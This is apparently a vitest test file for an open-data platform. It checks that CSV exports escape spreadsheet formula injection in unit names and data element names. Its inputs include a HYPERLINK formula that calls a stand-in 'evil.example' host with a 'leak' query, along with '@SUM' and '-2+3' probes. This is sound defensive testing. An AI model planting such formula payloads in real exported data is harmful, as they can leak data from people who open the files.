import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoCatalog } from '../src';
import { householdValues, realRegistry, startTestPlatform, submit, type TestPlatform } from './helpers';

/**
 * Formula injection through public open data (issue 19, item 1): a unit renamed over the hierarchy-change API and
 * data element names chosen by a catalog author reach the CSV; a spreadsheet must show them as text, never run
 * them. Every cell goes through the one cell writer (packages/core/src/export/spreadsheet-cell.ts).
 */
const PERIOD = '2026S1';
const PROVINCE = '19';
const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak","x")';

/** RFC 4180 fields of one CSV document (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endField();
    else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      endField();
      rows.push(row);
      row = [];
    } else field += c;
  }
  if (field !== '' || row.length > 0) {
    endField();
    rows.push(row);
  }
  return rows;
}

describe('open data CSV: names never become formulas', () => {
  let p: TestPlatform;
  beforeAll(async () => {
    p = await startTestPlatform({ withCatalog: false });
    const catalog = demoCatalog() as { dataElements: Array<{ code: string; name: string }> };
    for (const e of catalog.dataElements) {
      if (e.code === 'HH_TOTAL') e.name = '@SUM(A1:A9)';
      if (e.code === 'HH_POOR') e.name = '-2+3';
    }
    const published = await p.app.inject({ method: 'PUT', url: '/api/v1/catalog', payload: catalog as object });
    expect(published.statusCode, published.body).toBeLessThan(300);
    const renamed = await p.app.inject({
      method: 'POST',
      url: '/api/v1/hierarchies/2025/changes',
      payload: { change: { kind: 'rename', code: PROVINCE, name: EVIL_NAME }, reason: 'probe: formula injection' },
    });
    expect(renamed.statusCode, renamed.body).toBe(201);
    const commune = realRegistry().get('2025')!.descendantsAtLevel(PROVINCE, 'commune')[0]!.code;
    const r = await submit(p, { orgUnit: commune, period: PERIOD, submissionId: 'formula-probe', values: householdValues(1200, 150) });
    expect(r.status).toBe(202);
    await p.waitUntilCaughtUp();
  });
  afterAll(() => p.dispose());

  it('GET /api/v1/open-data/datasets/{id}.csv shows the renamed unit and the element names as text', async () => {
    const list = await p.app.inject({ method: 'GET', url: '/api/v1/open-data/datasets' });
    const dataset = (list.json() as { datasets: Array<{ id: string; template: string }> }).datasets.find((d) => d.template === 'M1719_S')!;
    const csv = await p.app.inject({ method: 'GET', url: `/api/v1/open-data/datasets/${dataset.id}.csv` });
    expect(csv.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(csv.body);
    const col = (name: string) => header!.indexOf(name);
    const total = rows.find((r) => r[col('province_code')] === PROVINCE && r[col('data_element')] === 'HH_TOTAL');
    const poor = rows.find((r) => r[col('province_code')] === PROVINCE && r[col('data_element')] === 'HH_POOR');
    expect(total?.[col('province_name')]).toBe(`'${EVIL_NAME}`);
    expect(total?.[col('data_element_name')]).toBe("'@SUM(A1:A9)");
    expect(poor?.[col('data_element_name')]).toBe("'-2+3");
    expect(total?.[col('value')]).toBe('1200');
    // no text cell anywhere starts like a formula; numbers (a value column) may be negative
    for (const r of rows) for (const [i, cell] of r.entries()) if (i !== col('value')) expect(cell, `row ${r.join('|')}`).not.toMatch(/^[=+\-@\t\r]/);
  });
});
